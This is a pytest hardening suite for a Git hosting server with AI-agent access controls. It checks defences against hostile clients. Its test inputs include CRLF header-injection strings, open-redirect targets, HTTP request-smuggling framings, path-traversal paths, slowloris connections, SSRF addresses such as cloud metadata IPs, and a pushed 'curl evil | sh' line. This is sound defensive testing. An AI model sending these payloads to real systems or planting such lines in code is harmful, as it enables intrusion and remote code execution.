"""Hardening: what a hostile client sends is refused in the surface's own shape, and never reaches a
header, a ref, the filesystem or the server's time unbounded."""
import urllib.parse

import pytest

from conftest import Browser, api, call, ext, patch_everywhere, postgresql, standing_write


def raw_request(server, text):
    """Bytes on a socket as a hostile client writes them; the status line and headers of the answer."""
    import socket
    host, port = server.httpd.server_address[:2]
    with socket.create_connection((host, port), timeout=10) as sock:
        sock.sendall(text if isinstance(text, bytes) else text.encode("latin-1"))
        data = b""
        while b"\r\n\r\n" not in data:
            chunk = sock.recv(65536)
            if not chunk:
                break
            data += chunk
    head = data.split(b"\r\n\r\n")[0].decode("latin-1")
    return head.split("\r\n")


def test_a_redirect_uri_or_next_with_cr_lf_never_reaches_a_header(server):
    alice = server.add_user("alice", password="pw")
    client = ext(server, "POST", "/oauth/apps", alice, {"name": "Tool", "redirect_uris": [
        "http://127.0.0.1/cb"]}).json["client_id"]
    # an app cannot register one either
    for uri in ("http://127.0.0.1/cb\r\nSet-Cookie: x=1", "http://127.0.0.1/c b", "http://127.0.0.1/\tcb"):
        assert ext(server, "POST", "/oauth/apps", alice, {"name": "Bad", "redirect_uris": [uri]}).status == 422
    injected = "http://127.0.0.1:9/cb\r\nSet-Cookie: agentgit_session=fixed"
    lines = raw_request(server, "GET /login/oauth/authorize?%s HTTP/1.1\r\nHost: x\r\nConnection: close\r\n\r\n" %
                        urllib.parse.urlencode({"client_id": client, "redirect_uri": injected,
                                                "response_type": "token"}))
    assert lines[0].startswith("HTTP/1.1 400") and not any(line.lower().startswith(("set-cookie: agentgit_session",
                                                                                     "location")) for line in lines)
    # the sign-in form's next: a local path of visible ASCII, or the default
    browser = Browser(server)
    for target in ("/\t/evil.example", "/x\r\nSet-Cookie: agentgit_session=fixed", "//evil.example", "/\\evil"):
        _, page = browser.request("GET", "/login?next=" + urllib.parse.quote(target))
        assert 'name="next" value="/settings/agents"' in page, target
        resp, _ = browser.request("POST", "/login", {"csrf": browser.csrf(page), "login": "alice", "password": "pw",
                                                     "next": target})
        assert resp.status == 303 and resp.getheader("Location") == "/settings/agents", target


def test_one_header_writer_refuses_cr_lf_whatever_the_handler_does(server, monkeypatch):
    """The class, not the instance: were a handler ever to put CR or LF in a header, the writer refuses
    it and the client gets a clean 500 with no header of the attacker's."""
    server.add_user("alice", password="pw")
    patch_everywhere(monkeypatch, "safe_next", lambda target: target)        # as if the check were forgotten
    browser = Browser(server)
    _, page = browser.request("GET", "/login")
    resp, _ = browser.request("POST", "/login", {"csrf": browser.csrf(page), "login": "alice", "password": "pw",
                                                 "next": "/x\r\nSet-Cookie: agentgit_session=fixed"})
    assert resp.status == 500 and resp.getheader("Location") is None
    assert "fixed" not in str(resp.getheaders())


def test_a_ref_name_that_is_not_utf8_is_refused_on_both_engines(engine_server, tmp_path):
    """A task token confined to agent/task-123/ cannot land refs/heads/outside-\\xff or refs/pull/\\xff/head:
    decisions are made on the exact bytes git will write, and the engine allows only what was decided."""
    import subprocess
    from conftest import commit_file, git, git_env, grant_a_task, remote
    server = engine_server
    task = grant_a_task(server, "task:x", ["read_code", "create_branch", "push_branch"],
                        {"branch_prefix": "agent/task-123/"})
    work = str(tmp_path / "w")
    git(str(tmp_path), "clone", "-q", remote(server, "alice/payments", task["token"]), work)
    commit_file(work, "a.txt", "1\n")
    proc = subprocess.run([b"git", b"push", b"origin", b"HEAD:refs/heads/agent/task-123/ok",
                           b"HEAD:refs/heads/outside-\xff", b"HEAD:refs/pull/\xff/head"],
                          cwd=work, env=git_env(work), capture_output=True, timeout=120)
    assert proc.returncode != 0
    refs = git(work, "ls-remote", "origin").stdout
    assert "refs/heads/agent/task-123/ok" in refs and "outside" not in refs and "refs/pull" not in refs
    rows = server.app.store.all("SELECT decision, reasons FROM audit WHERE reasons LIKE '%not a valid ref name%'")
    assert len(rows) == 2 and {r["decision"] for r in rows} == {"deny"}
    # and the repository still answers everyone
    for path in ("/branches", "/git/matching-refs/heads", "/commits", "/contents/a.txt?ref=agent/task-123/ok"):
        assert api(server, "GET", "/repos/alice/payments" + path, task["alice"]).status == 200, path


def test_request_framing_a_proxy_could_read_otherwise_is_refused(server):
    alice = server.add_user("alice")
    auth = "Authorization: token %s\r\n" % alice
    body = '{"name": "smuggled"}'
    cases = [
        ("Content-Length: %d\r\nTransfer-Encoding: chunked\r\n" % len(body), "400"),
        ("Transfer-Encoding: xchunked\r\n", "501"),
        ("Transfer-Encoding: chunked, gzip\r\n", "501"),
        ("Content-Length: \u00b2\r\n", "400"),
        ("Content-Length: 5\r\nContent-Length: 6\r\n", "400"),
    ]
    for framing, status in cases:
        lines = raw_request(server, "POST /api/v3/user/repos HTTP/1.1\r\nHost: x\r\n%s%sContent-Type: "
                            "application/json\r\n\r\n%s" % (auth, framing, body))
        assert lines[0].split()[1] == status, (framing, lines[0])
    assert api(server, "GET", "/repos/alice/smuggled", alice).status == 404
    # a chunk size of -1 does not read past the limit: a clean 400
    lines = raw_request(server, "POST /api/v3/user/repos HTTP/1.1\r\nHost: x\r\n%sTransfer-Encoding: chunked\r\n"
                        "\r\n-1\r\n%s\r\n0\r\n\r\n" % (auth, body))
    assert lines[0].split()[1] == "400"
    # JSON nested deeper than the parser goes is bad JSON, not a server error
    deep = "[" * 100000 + "]" * 100000
    r = api(server, "POST", "/user/repos", alice, raw_body=deep.encode(), headers={"Content-Type": "application/json"})
    assert r.status == 400 and r.json["message"].startswith("Problems parsing JSON")


def test_matching_refs_never_walks_the_filesystem(server):
    import time
    alice = server.add_user("alice")
    api(server, "POST", "/user/repos", alice, {"name": "demo", "auto_init": True})
    started = time.monotonic()
    up = "../" * 40                                   # from the repository's refs up to /, whatever the data dir
    for path in ("/git/matching-refs/" + up, "/git/matching-refs/heads/" + up + "etc",
                 "/git/matching-refs/" + "%2e%2e/" * 40):
        r = api(server, "GET", "/repos/alice/demo" + path)
        assert r.status in (200, 404, 422) and r.status < 500 and (r.json == [] or r.status != 200), (path, r)
    assert time.monotonic() - started < 2
    assert [ref["ref"] for ref in api(server, "GET", "/repos/alice/demo/git/matching-refs/heads/m").json] == [
        "refs/heads/main"]


def test_graphql_fragments_that_double_each_other_are_refused_in_no_time(server):
    import time
    alice = server.add_user("alice")
    fragments = ["fragment f0 on User { login }"] + [
        "fragment f%d on User { ...f%d ...f%d }" % (i, i - 1, i - 1) for i in range(1, 40)]
    query = "{ viewer { ...f39 } } " + " ".join(fragments)
    started = time.monotonic()
    r = call(server, "POST", "/api/graphql", alice, {"query": query})
    assert time.monotonic() - started < 1
    assert r.status == 200 and r.json.get("data") is None and "nodes" in r.json["errors"][0]["message"].lower()


def test_a_fork_of_private_code_stays_private_and_goes_with_its_forkers_access(server):
    alice, bob = server.add_user("alice"), server.add_user("bob")
    api(server, "POST", "/user/repos", alice, {"name": "secret", "private": True, "auto_init": True})
    api(server, "PUT", "/repos/alice/secret/collaborators/bob", alice, {"permission": "pull"})
    assert api(server, "POST", "/repos/alice/secret/forks", bob).status == 202
    for body in ({"private": False}, {"visibility": "public"}):
        r = api(server, "PATCH", "/repos/bob/secret", bob, body)
        assert r.status == 422 and "stays private" in str(r.json), body
    assert api(server, "GET", "/repos/bob/secret", bob).json["private"] is True
    # into an organization bob owns: still cut off when bob loses the upstream
    ext(server, "POST", "/user/orgs", bob, {"login": "bobco"})
    assert api(server, "POST", "/repos/alice/secret/forks", bob, {"organization": "bobco"}).status == 202
    assert api(server, "GET", "/repos/bobco/secret", bob).status == 200
    assert api(server, "DELETE", "/repos/alice/secret/collaborators/bob", alice).status == 204
    for fork in ("bob/secret", "bobco/secret"):
        assert api(server, "GET", "/repos/" + fork, bob).status == 404, fork
    assert api(server, "GET", "/repos/bobco/secret", server.admin[1]).status == 200          # site admins only


def test_credentials_stay_out_of_urls_logs_and_open_files(tmp_path):
    """The token endpoint takes its parameters from the body only; the access log redacts credentials
    a client put in a query string; a data directory made world-readable before is closed at start."""
    import io
    import os
    import stat
    import agentgit
    data = tmp_path / "data"
    data.mkdir(mode=0o755)
    (data / "repos").mkdir(mode=0o755)                       # made before the first start, by hand or a tool
    (data / "notes.txt").write_text("operator's notes")
    os.chmod(data / "notes.txt", 0o644)
    log = io.StringIO()
    srv = agentgit.make_server(data, port=0, access_log=log).start()
    try:
        assert stat.S_IMODE(os.stat(data).st_mode) == 0o700
        modes = {"repos": 0o700, "notes.txt": 0o600, **({} if postgresql else {"agentgit.db": 0o600})}
        assert {name: stat.S_IMODE(os.stat(data / name).st_mode) for name in modes} == modes
        login, agent, _ = srv.add_agent("coder")
        query = urllib.parse.urlencode({"grant_type": "urn:ietf:params:oauth:grant-type:token-exchange",
                                        "subject_token": agent, "resource": srv.url})
        r = call(srv, "POST", "/login/oauth/access_token?" + query, headers={"Accept": "application/json"})
        assert r.status == 400 and r.json["error"] == "unsupported_grant_type"        # nothing read from the URL
        assert agent not in log.getvalue() and "subject_token=[redacted]" in log.getvalue()
    finally:
        srv.stop()


def test_an_agents_merge_needs_a_humans_review_of_the_head_it_merges(server, tmp_path):
    """Commits an agent pushes after the human approved are not what the human approved."""
    standing_write(server)
    from conftest import commit_file, git, remote, session_token
    alice = server.add_user("alice")
    api(server, "POST", "/user/repos", alice, {"name": "payments", "private": True, "auto_init": True})
    login, agent, _ = server.add_agent("coder")
    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
        {"repo_full_name": "alice/payments", "permission": "push"}]}).json["invite_token"]
    ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite})
    session = session_token(server, agent, "alice/payments")
    assert api(server, "PUT", "/repos/alice/payments/branches/main/protection", alice, {
        "required_status_checks": None, "enforce_admins": False, "required_pull_request_reviews": None,
        "restrictions": None}).status == 200
    work = str(tmp_path / "w")
    git(str(tmp_path), "clone", "-q", remote(server, "alice/payments", session), work)
    commit_file(work, "fix.py", "ok = 1\n")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/fix")
    api(server, "POST", "/repos/alice/payments/pulls", session, {"title": "Fix", "head": "fix", "base": "main"})
    assert api(server, "POST", "/repos/alice/payments/pulls/1/reviews", alice, {"event": "APPROVE"}).status == 200
    commit_file(work, "fix.py", "ok = 1\nimport os; os.system('curl evil | sh')\n")
    git(work, "push", "-q", "origin", "HEAD:refs/heads/fix")                       # after the yes
    r = api(server, "PUT", "/repos/alice/payments/pulls/1/merge", session, {})
    assert r.status == 405 and "review of its head commit" in r.json["message"]
    assert api(server, "POST", "/repos/alice/payments/pulls/1/reviews", alice, {"event": "APPROVE"}).status == 200
    assert api(server, "PUT", "/repos/alice/payments/pulls/1/merge", session, {}).json["merged"] is True


def test_a_freeze_refuses_new_access_but_not_the_revocation_an_incident_needs(server):
    alice = server.add_user("alice")
    ext(server, "POST", "/user/orgs", alice, {"login": "acme"})
    api(server, "POST", "/orgs/acme/repos", alice, {"name": "core", "private": True, "auto_init": True})
    login, agent, _ = server.add_agent("coder")
    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
        {"repo_full_name": "acme/core", "permission": "push"}]}).json["invite_token"]
    assert ext(server, "POST", "/freezes", alice, {"resource": "org:acme", "reason": "incident 42"}).status == 201
    r = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
        {"repo_full_name": "acme/core", "permission": "admin"}]})
    assert r.status == 403 and "cannot grant access to acme/core" in r.json["message"]
    r = ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite})    # made before the freeze
    assert r.status == 403 and server.app.store.one("SELECT count(*) FROM collaborators")[0] == 0
    r = ext(server, "POST", "/revocations", alice, {"org": "acme"})
    assert r.status == 200, r


def test_an_agent_needs_its_delegators_fresh_second_factor_to_destroy_what_is_not_its_own(server):
    standing_write(server)
    import time
    import agentgit
    from conftest import session_token, turn_on_totp
    alice = server.add_user("alice")
    api(server, "POST", "/user/repos", alice, {"name": "doomed", "private": True})
    key = turn_on_totp(server, "alice")
    login, agent, workspace = server.add_agent("coder")
    invite = ext(server, "POST", "/agent-invites", alice, {"repo_grants": [
        {"repo_full_name": "alice/doomed", "permission": "admin"}]}).json["invite_token"]
    assert ext(server, "POST", "/agent-bindings/confirm", agent, {"invite_token": invite}).status == 201
    r = api(server, "DELETE", "/repos/alice/doomed", session_token(server, agent))
    assert r.status == 403 and "the site's agent policy: no agent may delete_repo" in r.json["message"]
    # this site's admin lets agents delete (tests/test_guardrails.py holds the default): with a fresh factor
    root = server.add_user("root", admin=True)
    assert ext(server, "PUT", "/site/agent-policy", root, {}).status == 200
    r = api(server, "DELETE", "/repos/alice/doomed", session_token(server, agent))
    assert r.status == 401 and "needs a TOTP code its delegator alice confirmed" in r.json["message"]
    assert api(server, "GET", "/repos/alice/doomed", alice).status == 200
    # alice steps up a switch session with her own code; as her agent, it may then
    switch = ext(server, "POST", "/agent-bindings/%s/switch-session" % login, alice, {})
    assert switch.status == 401                       # opening one is itself a step-up action for her
    assert ext(server, "POST", "/step-up", alice, {"otp": agentgit.totp_code(key, time.time())}).status == 200
    switch = ext(server, "POST", "/agent-bindings/%s/switch-session" % login, alice, {}).json["token"]
    assert api(server, "DELETE", "/repos/alice/doomed", switch).status == 401
    assert ext(server, "POST", "/step-up", switch, {"otp": agentgit.totp_code(key, time.time())}).status == 200
    assert api(server, "DELETE", "/repos/alice/doomed", switch).status == 204
    assert api(server, "DELETE", "/repos/" + workspace, agent).status == 204        # its own: no one is asked


def test_hostile_clients_hold_no_more_than_their_share(server):
    """200 idle connections from one address, a client trickling its headers, a 50 MB chunked body and
    a 2 GB Content-Length with no body: each hostile connection is closed or refused, and the server
    keeps answering another client within a second."""
    import socket
    import threading
    import time
    server.httpd.header_deadline = 4
    host, port = server.httpd.server_address[:2]

    def answers_quickly():
        started = time.monotonic()
        assert api(server, "GET", "/meta").status == 200
        return time.monotonic() - started < 1

    idle = []
    for _ in range(200):
        sock = socket.socket()
        sock.bind(("127.0.0.2", 0))
        sock.connect((host, port))
        idle.append(sock)
    assert answers_quickly()
    started = time.monotonic()
    time.sleep(2)                 # past the moment a connection may wait before it counts as idle

    def is_closed(sock):
        sock.setblocking(False)
        try:
            return sock.recv(100) in (b"", b"HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n"
                                            b"Connection: close\r\n\r\n")
        except BlockingIOError:
            return False
        except OSError:
            return True
    open_ones = [sock for sock in idle if not is_closed(sock)]
    assert len(open_ones) == 32 and answers_quickly()           # one address keeps 32 idle at most
    for sock in open_ones:                                      # the ones kept: cut off at the deadline
        sock.settimeout(5)
        assert sock.recv(100).startswith((b"HTTP/1.1 408", b""))
    assert time.monotonic() - started < 5
    for sock in idle:
        sock.close()
    # trickling the headers a byte at a time does not keep the connection past the deadline
    trickle = socket.create_connection((host, port), timeout=5)
    started, closed = time.monotonic(), False
    for byte in b"GET /api/v3/meta HTTP/1.1\r\nHost: x\r\nX-Slow: " + b"a" * 40:
        try:
            trickle.sendall(bytes([byte]))
        except OSError:
            closed = True
            break
        time.sleep(0.1)
        if time.monotonic() - started > 3:
            break
    try:
        closed = closed or trickle.recv(100) in (b"", b"HTTP/1.1 408 Request Timeout\r\nContent-Length: 0\r\n"
                                                        b"Connection: close\r\n\r\n")
    except OSError:
        closed = True
    assert closed and answers_quickly()
    trickle.close()
    # a body far past the limit: 413 once the limit is read, not the whole body
    token = server.add_user("alice").encode()
    big = socket.create_connection((host, port), timeout=10)
    big.sendall(b"POST /api/v3/user/repos HTTP/1.1\r\nHost: x\r\nAuthorization: token " + token +
                b"\r\nTransfer-Encoding: chunked\r\nContent-Type: application/json\r\n\r\n")
    chunk = b"%x\r\n%s\r\n" % (1 << 20, b"x" * (1 << 20))
    def send_50_mb():
        try:
            for _ in range(50):
                big.sendall(chunk)
        except OSError:
            pass                                                # the server has closed it: the point
    sender = threading.Thread(target=send_50_mb, daemon=True)
    sender.start()
    assert big.recv(100).startswith(b"HTTP/1.1 413") and answers_quickly()
    big.close()
    lines = raw_request(server, "POST /api/v3/user/repos HTTP/1.1\r\nHost: x\r\nAuthorization: token %s\r\n"
                        "Content-Length: 2147483648\r\nContent-Type: application/json\r\n\r\n" % token.decode())
    assert lines[0].startswith("HTTP/1.1 413") and answers_quickly()


def test_past_the_connection_cap_clients_wait_rather_than_being_refused(tmp_path):
    """With --max-connections 2 held by two silent clients, a third client is not refused: it waits in
    the listen queue and is served once the silent ones are cut off at their header deadline."""
    import socket
    import time
    import agentgit
    srv = agentgit.make_server(tmp_path / "d", port=0, max_connections=2, header_deadline=1.0).start()
    try:
        host, port = srv.httpd.server_address[:2]
        silent = [socket.create_connection((host, port)) for _ in range(2)]
        started = time.monotonic()
        assert api(srv, "GET", "/meta").status == 200
        assert 0.5 < time.monotonic() - started < 5            # it waited for a slot, and got one
        for sock in silent:
            sock.close()
    finally:
        srv.stop()


def test_request_headers_that_a_proxy_could_read_otherwise_are_refused(server):
    """What RFC 9112 says a server must refuse, each a way for a proxy in front and this server to read
    one request two ways (request smuggling), answered in the REST shape and the connection closed:
    obsolete line folding, whitespace before the colon, a line with no colon, a field name that is not
    a token; and the bounds http.client kept: a line over 64 KiB, more than 100 fields; and any
    version but HTTP/1.0 and 1.1 (HTTP/0.9 included: every answer has a status line)."""
    token = server.add_user("alice")
    ok = "GET /api/v3/user HTTP/1.1\r\nHost: x\r\nAuthorization: token %s\r\n\r\n" % token
    assert raw_request(server, ok)[0].startswith("HTTP/1.1 200")
    for text, status in (
            ("GET /api/v3/user HTTP/1.1\r\nHost: x\r\nAuthorization: token\r\n %s\r\n\r\n" % token, 400),
            ("GET /api/v3/user HTTP/1.1\r\nHost: x\r\nAuthorization : token %s\r\n\r\n" % token, 400),
            ("GET /api/v3/user HTTP/1.1\r\nHost: x\r\nno colon here\r\n\r\n", 400),
            ("GET /api/v3/user HTTP/1.1\r\nHost: x\r\nX(y): 1\r\n\r\n", 400),
            ("GET /api/v3/user HTTP/1.1\r\nHost: x\r\nX-Long: %s\r\n\r\n" % ("a" * 70000), 431),
            ("GET /api/v3/user HTTP/1.1\r\n%s\r\n" % "".join("X-%d: 1\r\n" % n for n in range(101)), 431),
            ("GET /api/v3/user HTTP/2.0\r\nHost: x\r\n\r\n", 400),
            ("GET /api/v3/user\r\n\r\n", 400)):
        lines = raw_request(server, text)
        assert lines[0].startswith("HTTP/1.1 %d" % status) and "Connection: close" in lines, (text[:80], lines[:1])
    # a field's name is matched whatever its case, its value without the whitespace around it
    assert raw_request(server, "GET /api/v3/user HTTP/1.1\r\nHost: x\r\nauthorization:   token %s  \r\n\r\n"
                       % token)[0].startswith("HTTP/1.1 200")


def test_outbound_connections_go_to_globally_routable_addresses_only():
    """The egress filter is an allowlist: what ipaddress calls global, minus the ranges no upstream lives
    in, with an IPv6 address that carries an IPv4 one (mapped, NAT64, 6to4, Teredo) judged by that one.
    The cloud metadata address in the shared range (100.100.100.200) and IPv6 site-local space passed
    the denylist before it."""
    import ipaddress
    import agentgit
    refused = ["100.100.100.200", "100.64.0.1", "169.254.169.254", "10.0.0.1", "127.0.0.1", "0.0.0.0", "fec0::1",
               "fe80::1", "fc00::1", "::1", "ff02::1", "224.0.0.1", "192.88.99.1", "198.18.0.1", "2001:db8::1",
               "::ffff:127.0.0.1", "::ffff:169.254.169.254", "64:ff9b::a9fe:a9fe", "2002:a9fe:a9fe::1",
               "2001:0:4136:e378:8000:63bf:80ff:fffe"]
    for address in refused:
        with pytest.raises(agentgit.HTTPError) as error:
            agentgit.public_address(address, 443, False, what="the upstream", status=502)
        assert error.value.status == 502 and "non-public" in error.value.message, address
    for address in ("8.8.8.8", "2001:4860:4860::8888", "::ffff:8.8.8.8", "64:ff9b::808:808"):
        assert ipaddress.ip_address(agentgit.public_address(address, 443, False)) == ipaddress.ip_address(address)
    assert agentgit.public_address("127.0.0.1", 443, True) == "127.0.0.1"          # the operator's tests
    with pytest.raises(agentgit.HTTPError):
        agentgit.public_address("169.254.169.254", 443, True)                    # loopback only, not all
